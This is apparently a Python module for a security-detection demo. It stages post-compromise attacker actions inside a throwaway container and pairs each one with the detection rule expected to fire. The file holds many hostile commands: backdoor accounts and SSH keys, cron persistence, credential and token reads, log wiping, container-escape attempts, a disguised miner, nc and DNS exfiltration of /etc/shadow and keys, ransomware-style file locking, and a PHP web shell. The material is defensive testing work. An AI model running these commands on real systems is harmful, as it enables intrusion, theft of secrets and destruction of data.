"""What attackers do once they are in, each a scene on the demo's stage: typed into a shell that called them.

Everything is harmless: it stays in the container, which is gone afterwards. Programs are named by their
whole path, because this busybox would run them as itself otherwise.
"""

import asyncio
from collections.abc import Sequence

from tracetide.demo.network import listen
from tracetide.demo.scenes.scene import Scene
from tracetide.demo.stage import Stage

_PORT = 9000


async def _prepare(stage: Stage, *lines: str) -> None:
    """Put things into the container that its owner would have there."""
    await asyncio.to_thread(stage.shop.execute, "/bin/sh", "-c", "\n".join(lines))


async def _take_what_comes(stage: Stage) -> None:
    """Wait on the attacker's side for whatever is sent."""

    async def take(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.read()
        writer.close()

    server = await asyncio.start_server(take, sock=listen(stage.attacker.victim, _PORT))
    stage.attacker.stack.callback(server.close)


def _typed(name: str, rule: str, lines: Sequence[str], before: Sequence[str] = ("true",)) -> Scene:
    """A scene in which the attacker types ``lines``; ``rule`` is one that must see it."""

    async def act(stage: Stage) -> str:
        await _prepare(stage, *before)
        await _take_what_comes(stage)
        for line in lines:
            await stage.attacker.type(line)
        return f"typed: {'; '.join(lines)}"

    return Scene(name, name, f"The attacker types {len(lines)} lines.", frozenset({rule}), act)


async def _web_script(stage: Stage) -> str:
    await _prepare(stage, "echo PASSWORD=secret > /var/www/.env")
    await stage.attacker.inject("/bin/cat /var/www/.env")
    return await stage.attacker.inject("echo '<?php system($_GET[0]);' > /var/www/x.php")


async def _administration(stage: Stage) -> str:
    """What an administrator and the container's own jobs do in a day."""
    await _prepare(
        stage,
        "mkdir -p /etc/shop /var/lib/shop /home/shop/.ssh /backup",
        "echo port=80 > /etc/shop/shop.conf; /bin/sed -i s/80/8080/ /etc/shop/shop.conf",
        "/bin/tar czf /backup/shop.tgz /etc/shop /var/www; /bin/tar tzf /backup/shop.tgz",
        "/bin/mv /var/log/shop.log /var/log/shop.log.1; /bin/gzip /var/log/shop.log.1",
        "echo '#!/bin/sh' > /root/job.sh; /bin/chmod 755 /root/job.sh; /root/job.sh",
        "/bin/ln -s /etc/shop/shop.conf /var/lib/shop/conf; /bin/rm /var/lib/shop/conf",
        "/bin/touch /etc/shop/seen; /bin/chown shop /var/lib/shop; /bin/chmod 700 /home/shop/.ssh",
        "/bin/ps; /bin/df; /usr/bin/id; /bin/uname -a; /usr/bin/find /var/www -name '*.html'; /bin/date",
        "/usr/bin/wget -q -O /dev/null http://127.0.0.1:80/; /bin/grep -r port /etc/shop",
        "/bin/sleep 1 & /bin/kill $!; /usr/bin/nohup /bin/true; /usr/bin/env > /dev/null",
    )
    return "a change, a backup, a rotation, a job"


ATTACKS: tuple[Scene, ...] = (
    _typed(
        "coming-back",
        "Account file written by hand",
        [
            "echo '* * * * * root /tmp/x' > /etc/cron.d/update",
            "echo 'ssh-ed25519 AAAA sysd' >> /root/.ssh/authorized_keys",
            "echo '[Service]' > /etc/systemd/system/update.service",
            "echo 'alias sudo=/tmp/x' >> /etc/profile.d/update.sh",
            "echo 'sysd::0:0::/:/bin/sh' >> /etc/passwd",
            "/bin/cp /bin/busybox /var/tmp/.sh; /bin/chmod 4755 /var/tmp/.sh",
        ],
        ["mkdir -p /etc/cron.d /root/.ssh /etc/systemd/system /etc/profile.d"],
    ),
    _typed(
        "secrets-read",
        "Token of a service account read by a tool",
        [
            "/bin/cat /run/secrets/kubernetes.io/serviceaccount/token",
            "/bin/cat /root/.aws/credentials",
            "/bin/cp /root/.ssh/id_ed25519 /tmp/k",
            "/bin/cat /proc/1/environ",
            "/usr/bin/find / -xdev -name '*.pem'",
        ],
        [
            "mkdir -p /run/secrets/kubernetes.io/serviceaccount /root/.aws /root/.ssh",
            "cd /root; echo a > .aws/credentials; echo b > .ssh/id_ed25519",
            "echo c > /run/secrets/kubernetes.io/serviceaccount/token",
        ],
    ),
    _typed(
        "covered-tracks",
        "System log emptied",
        [
            "echo > /var/log/auth.log",
            "/bin/rm /var/log/wtmp",
            "/bin/ln -sf /dev/null /root/.ash_history",
            "/bin/touch -t 202001010000 /usr/bin/wget",
            "/bin/cp /bin/busybox /tmp/x; (exec -a rm /tmp/x /tmp/x)",
            "/bin/mv /usr/bin/wget /usr/bin/wget1",
        ],
        ["echo login > /var/log/auth.log; echo login > /var/log/wtmp"],
    ),
    _typed(
        "ways-out",
        "Container goes through another process's root folder",
        [
            "/bin/cat /proc/1/root/etc/hostname",
            "/bin/mknod /tmp/disk b 8 1",
            "echo x > /host/etc/cron.d/update",
            "/usr/sbin/chroot /host /bin/true",
            "/usr/bin/nsenter -t 1 -m /bin/true",
            "/sbin/insmod /tmp/x.ko",
            "/bin/cat /proc/1/cgroup",
        ],
        ["mkdir -p /host/etc/cron.d; echo x > /tmp/x.ko"],
    ),
    _typed(
        "mining",
        "Machine used to mine money",
        [
            "/bin/cp /bin/busybox /var/tmp/kworker",
            "(exec -a true /var/tmp/kworker -o stratum+tcp://127.0.0.1:3333 -u x)",
        ],
    ),
    _typed(
        "carried-away",
        "Secrets packed into an archive",
        [
            "/bin/tar czf /tmp/.a.tgz /root/.ssh /etc/shadow",
            f"/usr/bin/nc -w 1 127.0.0.1 {_PORT} < /tmp/.a.tgz",
            "/usr/bin/nslookup cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaAo.x1.test 127.0.0.1",
        ],
        ["mkdir -p /root/.ssh; echo secret > /root/.ssh/id_ed25519"],
    ),
    _typed(
        "extortion",
        "Ransom note or encrypted file written",
        [
            "cd /srv; for f in a b c; do /bin/mv $f.doc $f.doc.lockbit; done",
            "echo pay > /srv/HOW_TO_DECRYPT.txt",
            "/bin/rm -rf /var/backups",
        ],
        ["mkdir -p /srv /var/backups; cd /srv; for f in a b c; do echo $f > $f.doc; done"],
    ),
    _typed(
        "explored",
        "Machine explored through a connection",
        ["/usr/bin/id", "/bin/uname -a", "/bin/ps", "/usr/bin/find / -xdev -perm -4000", "/bin/df"],
    ),
    Scene(
        "web-script", "web-script", "A web shell.", frozenset({"Script written by a web server"}), _web_script
    ),
)

ADMINISTRATION = Scene("ordinary-administration", "Ordinary work", "", frozenset(), _administration)
